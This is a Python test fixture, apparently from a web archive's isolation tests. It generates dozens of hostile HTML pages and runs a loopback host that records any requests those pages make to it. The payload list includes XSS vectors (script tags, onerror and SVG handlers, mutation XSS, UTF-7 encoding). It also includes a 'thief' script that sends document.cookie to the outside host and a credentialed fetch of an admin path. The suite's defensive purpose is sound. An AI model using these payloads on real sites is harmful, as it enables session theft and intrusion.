"""Pages that try to get out of an archive, and a host outside that notes who comes.

Each tells in two ways that it ran: it asks its own origin for `/20010101000000/http://ran.example/`, which no
policy of ours forbids, and it asks the host outside, which nothing of an archive should ever do.
"""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from urllib.parse import urlsplit

RAN = "/20010101000000/http://ran.example/"
_JS = (
    f"new Image().src='{RAN}';new Image().src='@/script';"
    "try{fetch('@/admin',{credentials:'include'})}catch(e){}"
)

_PAYLOADS = {  # one a line, however long
    "inline script": "<script>#</script>",
    "script of another host": "<script src=@/script.js></script>",
    "module": "<script type=module>import '@/module.js';#</script>",
    "broken picture": '<img src=x onerror="#">',
    "unfinished tag": '<img src=x onerror="#" ',
    "slashes for spaces": '<img/src=x/onerror="#">',
    "svg onload": '<svg onload="#"></svg>',
    "svg script": "<svg><script>#</script></svg>",
    "svg animation": '<svg><animate onbegin="#" attributeName=x dur=1s></svg>',
    "svg link set later": '<svg><a><set attributeName=href to="javascript:#"/><text y=20>x</text></a></svg>',
    "svg picture elsewhere": "<svg><image href=@/svg.png width=9 height=9 /><use xlink:href='@/use.svg#x'/>"
    "</svg>",
    "toggle": '<details open ontoggle="#">x</details>',
    "focus": '<input autofocus onfocus="#">',
    "frame with a page": '<iframe srcdoc="<script>#</script>"></iframe>',
    "frame with a script": '<iframe src="javascript:#"></iframe>',
    "frame of another host": "<iframe src=@/frame></iframe><frameset><frame src=@/frame2></frameset>",
    "object": "<object data=@/object type=text/html></object><embed src=@/embed type=text/html>",
    "refresh": '<meta http-equiv=refresh content="0;url=@/refresh">',
    "refresh in two": '<META content="0;url=@/refresh" HTTP-EQUIV=" Refresh ">',
    "base": "<base href=@/base/><img src=picture.png><a href=x>x</a>",
    "style sheet": "<link rel=stylesheet href=@/style.css>"
    "<link rel='preload stylesheet' as=style href=@/style2.css>",
    "prefetch": "<link rel=prefetch href=@/prefetch><link rel=preload as=image href=@/preload>"
    "<link rel=modulepreload href=@/modulepreload><link rel=prerender href=@/prerender>",
    "preconnect": "<link rel=preconnect href=@><link rel=dns-prefetch href=@>",
    "import of styles": "<style>@import '@/import.css'; @import url(@/import2.css);</style>",
    "style with pictures": "<style>body{background:url('@/bg.png')}</style>"
    '<p style="background:url(@/p.png)">x</p>',
    "escaped style": "<style>body{background:u\\72l('@/bg.png')}</style>",
    "font": "<style>@font-face{font-family:f;src:url(@/font.woff)}body{font-family:f}</style>text",
    "media": "<video src=@/video poster=@/poster autoplay></video><audio src=@/audio autoplay></audio>",
    "sets of pictures": "<img srcset='@/1.png 1x, @/2.png 2x'><picture><source srcset=@/3.png>"
    "<img src=@/4.png></picture>",
    "old pictures": "<body background=@/bg.png><img lowsrc=@/low.png dynsrc=@/dyn.png>"
    "<input type=image src=@/input.png>",
    "form": "<form id=f action=@/form method=post><input name=a></form><script>f.submit()</script>",
    "ping": "<a id=a ping=@/ping href=#>x</a><script>a.click()</script>",
    "popup": "<script>#;open('@/popup')</script>",
    "top": "<script>#;try{top.location='@/top'}catch(e){}</script>",
    "worker": "<script>#;navigator.serviceWorker.register('/sw.js')</script>",
    "thief": "<script>#;new Image().src='@/cookie?'+document.cookie+localStorage.length</script>",
    "socket": "<script>#;new WebSocket('@/socket'.replace('http','ws'))</script>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    '<img src=x onerror="#">',
    "comment that ends early": "<!--><script>#</script>-->",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror='#'>\"></noscript>",
    "title": "<title></title><script>#</script></title>",
    "text area": "<textarea></textarea><script>#</script></textarea>",
    "declaration": "<![CDATA[><script>#</script>]]><?xml-stylesheet href='@/xsl'?>",
    "link": "<a id=out href=@/link target=_top>out</a>",
    "expression of a template": "{{7*7}}${7*7}<%= 7*7 %><p>x</p><script>#</script>",
}


@dataclass(frozen=True, slots=True, kw_only=True)
class HostilePage:
    name: str
    content_type: str
    body: bytes


def hostile_pages(outside: str) -> list[HostilePage]:
    """Return the pages, which know the host outside."""
    made = [
        HostilePage(name=name, content_type="text/html; charset=utf-8", body=_page(text, outside).encode())
        for name, text in _PAYLOADS.items()
    ]
    script = _page(_PAYLOADS["inline script"], outside)
    made += [
        HostilePage(name="utf-16", content_type="text/html", body=b"\xff\xfe" + script.encode("utf-16-le")),
        HostilePage(name="utf-7", content_type="text/html; charset=utf-7", body=script.encode("utf-7")),
        HostilePage(name="no type", content_type="", body=script.encode()),
        HostilePage(name="plain text", content_type="text/plain", body=script.encode()),
        HostilePage(
            name="xhtml",
            content_type="application/xhtml+xml",
            body=f'<html xmlns="http://www.w3.org/1999/xhtml">{script.partition("<html>")[2]}'.encode(),
        ),
        HostilePage(
            name="svg document",
            content_type="image/svg+xml",
            body=f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_js(outside)}</script></svg>'.encode(),
        ),
    ]
    return made


def hostile_words(outside: str) -> list[str]:
    """Return the same as titles, texts and questions."""
    return [text.replace("#", _js(outside)).replace("@", outside) for text in _PAYLOADS.values()]


def _page(text: str, outside: str) -> str:
    text = text.replace("@import", "\x00").replace("@font-face", "\x01")
    text = (
        text.replace("#</", f"{_js(outside)}</")
        .replace("#;", f"{_js(outside)};")
        .replace('#"', f'{_js(outside)}"')
    )
    text = text.replace("#'>", f"{_js(outside)}'>").replace("javascript:#", f"javascript:{_js(outside)}")
    text = text.replace("@", outside).replace("\x00", "@import").replace("\x01", "@font-face")
    return f"<!doctype html><html><head><title>t</title></head><body>{text}</body></html>"


def _js(outside: str) -> str:
    return _JS.replace("@", outside)


@dataclass(slots=True)
class Outside:
    """A host that no page of an archive has any business with. It plays the operators' pages, too."""

    url: str = ""
    pages: dict[str, HostilePage] = field(default_factory=dict)
    seen: list[str] = field(default_factory=list)
    admitted: list[str] = field(default_factory=list)
    """Requests that came with the operator's cookie."""


@contextmanager
def outside_host() -> Iterator[Outside]:
    """Listen on a port of loopback. `/page/N` gives a page as it is, without any isolation."""
    outside = Outside()

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            path = urlsplit(self.path).path
            page = outside.pages.get(path.rpartition("/")[2]) if path.startswith("/page/") else None
            if path == "/favicon.ico":
                self._answer(b"", "text/plain")
            elif page is not None:
                self._answer(page.body, page.content_type)
            else:
                outside.seen.append(self.path)
                if "operator=secret" in self.headers.get("Cookie", ""):
                    outside.admitted.append(self.path)
                self._answer(b"ok", "text/plain")

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("content-length") or 0))
            self.do_GET()

        def _answer(self, body: bytes, content_type: str) -> None:
            self.send_response(200)
            if content_type:
                self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    outside.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield outside
    finally:
        server.shutdown()
        server.server_close()
